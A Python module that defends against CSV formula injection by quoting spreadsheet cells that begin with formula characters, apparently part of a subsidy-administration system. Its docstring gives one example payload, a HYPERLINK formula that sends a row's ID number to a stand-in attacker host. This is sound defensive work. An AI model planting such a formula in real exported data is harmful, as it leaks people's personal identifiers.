"""CSV cells safe to open in a spreadsheet (CSV formula injection, OWASP "CSV Injection").

Excel, LibreOffice and WPS read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some versions, a tab or carriage return followed by one) as a formula: a person named
``=HYPERLINK("http://evil.example/?x="&B2,"点击")`` would send the row's ID number away when a
town clerk clicks it. :func:`safe_cell` prefixes such a *text* cell with a single quote, which
the spreadsheet shows as text and does not display; every CSV the suite writes passes its text
cells through it.

Numbers (``int``, ``float``, ``Decimal``, but not ``bool``) are left alone, so a negative amount
stays a number; ``None`` and other non-text values are returned unchanged for the caller to
format. :data:`FORMULA_PREFIXES` is mirrored in SQL where a file is written by PostgreSQL
``COPY`` (``services/subsidy/runs/sql.py``).
"""

from __future__ import annotations

from typing import TypeVar

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """``value`` unchanged, unless it is a ``str`` starting with one of :data:`FORMULA_PREFIXES`:
    then ``"'" + value`` (``"=1+2"`` → ``"'=1+2"``, ``"-5"`` → ``"'-5"``, ``"王小英"`` unchanged).
    Numbers (``int``/``float``/``Decimal``) are never changed, so pass amounts as numbers, not
    as their text. Raises nothing."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: list[object] | tuple[object, ...]) -> list[object]:
    """:func:`safe_cell` applied to every cell of a row."""
    return [safe_cell(value) for value in values]


__all__ = ["FORMULA_PREFIXES", "safe_cell", "safe_row"]
